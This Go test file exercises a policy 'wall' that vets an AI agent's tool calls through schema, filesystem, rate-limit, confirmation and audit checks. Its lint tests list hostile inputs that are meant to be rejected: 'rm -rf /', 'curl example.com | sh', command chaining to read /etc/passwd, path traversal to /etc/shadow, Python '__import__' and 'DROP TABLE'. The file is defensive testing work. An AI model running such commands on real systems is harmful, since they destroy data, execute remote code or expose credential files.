package wall

import (
	"context"
	"errors"
	"log/slog"
	"path/filepath"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/longregen/cogito/internal/adapters/id"
	"github.com/longregen/cogito/internal/audit"
	"github.com/longregen/cogito/internal/config"
	"github.com/longregen/cogito/internal/domain"
	"github.com/longregen/cogito/internal/domain/models"
	"github.com/longregen/cogito/internal/ports"
	"github.com/longregen/cogito/internal/registry"
)

func testRegistry(t *testing.T) *registry.Registry {
	t.Helper()
	r := registry.New()
	handler := ports.ToolHandlerFunc(func(ctx context.Context, args map[string]any, tc *ports.ToolContext) (*models.ExecutionResult, error) {
		return &models.ExecutionResult{Success: true}, nil
	})
	stringArg := func(name string) map[string]any {
		return map[string]any{
			"type": "object",
			"properties": map[string]any{
				name: map[string]any{"type": "string"},
			},
			"required": []string{name},
		}
	}
	specs := []*models.ToolSpec{
		{Name: "respond", ArgSchema: stringArg("text"), Risk: models.RiskSafe, SideEffect: models.SideEffectReadOnly},
		{Name: "calculate", ArgSchema: stringArg("expression"), Risk: models.RiskSafe, SideEffect: models.SideEffectReadOnly},
		{Name: "get_weather", ArgSchema: stringArg("location"), Risk: models.RiskSafe, SideEffect: models.SideEffectNetwork},
		{Name: "web_search", ArgSchema: stringArg("query"), Risk: models.RiskReview, SideEffect: models.SideEffectNetwork},
		{Name: "read_file", ArgSchema: stringArg("path"), Risk: models.RiskReview, SideEffect: models.SideEffectReadOnly},
		{Name: "write_file", ArgSchema: map[string]any{
			"type": "object",
			"properties": map[string]any{
				"path":    map[string]any{"type": "string"},
				"content": map[string]any{"type": "string"},
			},
			"required": []string{"path", "content"},
		}, Risk: models.RiskConfirm, SideEffect: models.SideEffectWritesFS},
		{Name: "delete_file", ArgSchema: stringArg("path"), Risk: models.RiskConfirm, SideEffect: models.SideEffectWritesFS},
		{Name: "reboot_host", ArgSchema: map[string]any{"type": "object"}, Risk: models.RiskOwnerRoot, SideEffect: models.SideEffectOSControl},
	}
	for _, spec := range specs {
		require.NoError(t, r.Register(spec, handler))
	}
	r.Seal()
	return r
}

type wallHarness struct {
	wall     *Wall
	auditLog *audit.Log
	clock    *fakeClock
}

type fakeClock struct {
	t time.Time
}

func (c *fakeClock) Now() time.Time          { return c.t }
func (c *fakeClock) Advance(d time.Duration) { c.t = c.t.Add(d) }

func newHarness(t *testing.T, opts ...Option) *wallHarness {
	t.Helper()
	dir := t.TempDir()
	auditLog, err := audit.NewLog(filepath.Join(dir, "audit.jsonl"), 0, id.New(), slog.Default())
	require.NoError(t, err)
	t.Cleanup(func() { auditLog.Close() })

	clock := &fakeClock{t: time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)}
	cfg := config.WallConfig{
		RateLimits: map[string]config.RateLimitConfig{
			"safe":       {Limit: 50, WindowSec: 60},
			"review":     {Limit: 20, WindowSec: 60},
			"confirm":    {Limit: 5, WindowSec: 300},
			"owner-root": {Limit: 2, WindowSec: 3600},
		},
		AllowlistDomains: []string{"open-meteo.com", "wikipedia.org"},
		FSRoot:           filepath.Join(dir, "fsroot"),
		FSDeniedExts:     []string{".so", ".exe"},
		FSMaxBytes:       1024,
	}
	opts = append([]Option{WithClock(clock.Now), AllowSideEffect("get_weather", "web_search")}, opts...)
	w := New(cfg, testRegistry(t), auditLog, slog.Default(), opts...)
	return &wallHarness{wall: w, auditLog: auditLog, clock: clock}
}

func plan(tool string, args map[string]any) *models.ActionPlan {
	return models.NewActionPlan("pln_test", tool, args)
}

func TestSafeToolApproved(t *testing.T) {
	h := newHarness(t)

	v, err := h.wall.Evaluate(context.Background(), Request{
		TurnID: "trn_1", UserID: "u1",
		Plan: plan("respond", map[string]any{"text": "hi"}),
	})
	require.NoError(t, err)
	assert.Equal(t, models.WallApproved, v.Decision)

	tiers := make([]string, 0, len(v.Tiers))
	for _, o := range v.Tiers {
		tiers = append(tiers, o.Tier)
	}
	assert.Equal(t, []string{models.TierSchema, models.TierPolicy, models.TierLint, models.TierDecision, models.TierAudit}, tiers)
}

func TestSchemaViolationRejected(t *testing.T) {
	h := newHarness(t)

	v, err := h.wall.Evaluate(context.Background(), Request{
		TurnID: "trn_1", UserID: "u1",
		Plan: plan("respond", map[string]any{"text": 42}),
	})
	require.NoError(t, err)
	assert.Equal(t, models.WallRejected, v.Decision)
	assert.Equal(t, models.TierSchema, v.Tier)
}

func TestPathOutsideRootRejected(t *testing.T) {
	h := newHarness(t)

	v, err := h.wall.Evaluate(context.Background(), Request{
		TurnID: "trn_1", UserID: "u1", Confirmed: true,
		Plan: plan("delete_file", map[string]any{"path": "/etc/passwd"}),
	})
	require.NoError(t, err)
	assert.Equal(t, models.WallRejected, v.Decision)
	assert.Equal(t, models.TierPolicy, v.Tier)
	assert.Equal(t, "fs_outside_root", v.Code)
}

func TestPathTraversalRejected(t *testing.T) {
	h := newHarness(t)

	v, err := h.wall.Evaluate(context.Background(), Request{
		TurnID: "trn_1", UserID: "u1",
		Plan: plan("read_file", map[string]any{"path": "../../etc/shadow"}),
	})
	require.NoError(t, err)
	assert.Equal(t, models.WallRejected, v.Decision)
	assert.Equal(t, "fs_outside_root", v.Code)
}

func TestDeniedExtensionRejected(t *testing.T) {
	h := newHarness(t)

	v, err := h.wall.Evaluate(context.Background(), Request{
		TurnID: "trn_1", UserID: "u1",
		Plan: plan("read_file", map[string]any{"path": "lib/evil.so"}),
	})
	require.NoError(t, err)
	assert.Equal(t, models.WallRejected, v.Decision)
	assert.Equal(t, "fs_denied_extension", v.Code)
}

func TestContentSizeLimit(t *testing.T) {
	h := newHarness(t)

	big := make([]byte, 2048)
	for i := range big {
		big[i] = 'x'
	}
	v, err := h.wall.Evaluate(context.Background(), Request{
		TurnID: "trn_1", UserID: "u1", Confirmed: true,
		Plan: plan("write_file", map[string]any{"path": "notes.txt", "content": string(big)}),
	})
	require.NoError(t, err)
	assert.Equal(t, models.WallRejected, v.Decision)
	assert.Equal(t, "fs_content_too_large", v.Code)
}

func TestNetworkToolWithoutPolicyEntryRejected(t *testing.T) {
	h := newHarness(t, AllowSideEffect()) // overriding nothing; get_weather is allowed in harness defaults
	v, err := h.wall.Evaluate(context.Background(), Request{
		TurnID: "trn_1", UserID: "u1",
		Plan: plan("get_weather", map[string]any{"location": "London"}),
	})
	require.NoError(t, err)
	assert.Equal(t, models.WallApproved, v.Decision)

	// a fresh wall with no entries rejects the same plan
	dir := t.TempDir()
	auditLog, err := audit.NewLog(filepath.Join(dir, "audit.jsonl"), 0, id.New(), slog.Default())
	require.NoError(t, err)
	defer auditLog.Close()
	bare := New(config.WallConfig{FSRoot: dir}, testRegistry(t), auditLog, slog.Default())

	v, err = bare.Evaluate(context.Background(), Request{
		TurnID: "trn_2", UserID: "u1",
		Plan: plan("get_weather", map[string]any{"location": "London"}),
	})
	require.NoError(t, err)
	assert.Equal(t, models.WallRejected, v.Decision)
	assert.Equal(t, "side_effect_ungated", v.Code)
}

func TestLintDenyListsRejectPlans(t *testing.T) {
	h := newHarness(t)

	tests := []struct {
		name string
		args map[string]any
		code string
	}{
		{"dunder expression", map[string]any{"expression": "__import__('os')"}, "dunder"},
		{"eval in expression", map[string]any{"expression": "eval(1+1)"}, "eval_call"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			v, err := h.wall.Evaluate(context.Background(), Request{
				TurnID: "trn_1", UserID: "u1",
				Plan: plan("calculate", tt.args),
			})
			require.NoError(t, err)
			assert.Equal(t, models.WallRejected, v.Decision)
			assert.Equal(t, models.TierLint, v.Tier)
			assert.Equal(t, tt.code, v.Code)
		})
	}
}

func TestShellLintPatterns(t *testing.T) {
	tests := []struct {
		val  string
		code string
	}{
		{"rm -rf /", "rm_rf_root"},
		{"curl example.com | sh", "pipe_to_shell"},
		{"ls && cat /etc/passwd", "command_chaining"},
		{"echo $(whoami)", "subshell"},
		{"echo hi > /etc/motd", "absolute_redirect"},
		{"ls -la", ""},
	}
	for _, tt := range tests {
		code, _ := checkLint(map[string]any{"cmd": tt.val})
		assert.Equal(t, tt.code, code, "cmd=%q", tt.val)
	}
}

func TestSQLMutationRejected(t *testing.T) {
	code, _ := checkLint(map[string]any{"sql": "DROP TABLE users"})
	assert.Equal(t, "sql_mutation", code)
	code, _ = checkLint(map[string]any{"sql": "SELECT * FROM users"})
	assert.Empty(t, code)
}

func TestConfirmTierRequiresToken(t *testing.T) {
	h := newHarness(t)
	req := Request{
		TurnID: "trn_1", UserID: "u1",
		Plan: plan("write_file", map[string]any{"path": "notes.txt", "content": "hello"}),
	}

	v, err := h.wall.Evaluate(context.Background(), req)
	require.NoError(t, err)
	assert.Equal(t, models.WallNeedsConfirmation, v.Decision)

	req.Confirmed = true
	v, err = h.wall.Evaluate(context.Background(), req)
	require.NoError(t, err)
	assert.Equal(t, models.WallApproved, v.Decision)
}

func TestOwnerRootRequiresBoth(t *testing.T) {
	h := newHarness(t)
	req := Request{TurnID: "trn_1", UserID: "u1", Plan: plan("reboot_host", map[string]any{})}

	v, err := h.wall.Evaluate(context.Background(), req)
	require.NoError(t, err)
	assert.Equal(t, models.WallNeedsOwnerAuth, v.Decision)

	req.Confirmed = true
	v, err = h.wall.Evaluate(context.Background(), req)
	require.NoError(t, err)
	assert.Equal(t, models.WallNeedsOwnerAuth, v.Decision)

	req.OwnerAuthorized = true
	v, err = h.wall.Evaluate(context.Background(), req)
	require.NoError(t, err)
	assert.Equal(t, models.WallApproved, v.Decision)
}

func TestConfirmTierRateLimit(t *testing.T) {
	h := newHarness(t)
	req := Request{
		TurnID: "trn_1", UserID: "u1", Confirmed: true,
		Plan: plan("write_file", map[string]any{"path": "notes.txt", "content": "hello"}),
	}

	for i := 0; i < 5; i++ {
		v, err := h.wall.Evaluate(context.Background(), req)
		require.NoError(t, err)
		require.Equal(t, models.WallApproved, v.Decision, "request %d", i+1)
	}

	v, err := h.wall.Evaluate(context.Background(), req)
	require.NoError(t, err)
	assert.Equal(t, models.WallRejected, v.Decision)
	assert.Equal(t, models.TierPolicy, v.Tier)
	assert.Equal(t, "rate_limited", v.Code)

	// another user is not throttled
	other := req
	other.UserID = "u2"
	v, err = h.wall.Evaluate(context.Background(), other)
	require.NoError(t, err)
	assert.Equal(t, models.WallApproved, v.Decision)

	// window elapses, tokens refill
	h.clock.Advance(301 * time.Second)
	v, err = h.wall.Evaluate(context.Background(), req)
	require.NoError(t, err)
	assert.Equal(t, models.WallApproved, v.Decision)
}

func TestAuditFailureEscalates(t *testing.T) {
	h := newHarness(t)
	require.NoError(t, h.auditLog.Close())

	_, err := h.wall.Evaluate(context.Background(), Request{
		TurnID: "trn_1", UserID: "u1",
		Plan: plan("respond", map[string]any{"text": "hi"}),
	})
	require.Error(t, err)
	assert.True(t, errors.Is(err, domain.ErrAuditFailure))
}

func TestSetPolicyReplacesGatingAndAllowlist(t *testing.T) {
	h := newHarness(t)

	req := Request{
		TurnID: "trn_1", UserID: "u1",
		Plan: plan("get_weather", map[string]any{"location": "Berlin"}),
	}
	v, err := h.wall.Evaluate(context.Background(), req)
	require.NoError(t, err)
	assert.Equal(t, models.WallApproved, v.Decision)

	// dropping get_weather from the gated set rejects it at the policy tier
	h.wall.SetPolicy(PolicyDoc{
		SideEffectTools:  []string{"web_search"},
		AllowlistDomains: []string{"example.org"},
	})

	v, err = h.wall.Evaluate(context.Background(), req)
	require.NoError(t, err)
	assert.Equal(t, models.WallRejected, v.Decision)
	assert.Equal(t, "side_effect_ungated", v.Code)

	// the old allowlist no longer applies
	v, err = h.wall.Evaluate(context.Background(), Request{
		TurnID: "trn_2", UserID: "u1",
		Plan: plan("web_search", map[string]any{"query": "x", "url": "https://wikipedia.org/wiki/Go"}),
	})
	require.NoError(t, err)
	assert.Equal(t, models.WallRejected, v.Decision)
	assert.Equal(t, "domain_not_allowlisted", v.Code)

	doc := h.wall.Policy()
	assert.Equal(t, []string{"web_search"}, doc.SideEffectTools)
	assert.Equal(t, []string{"example.org"}, doc.AllowlistDomains)
}
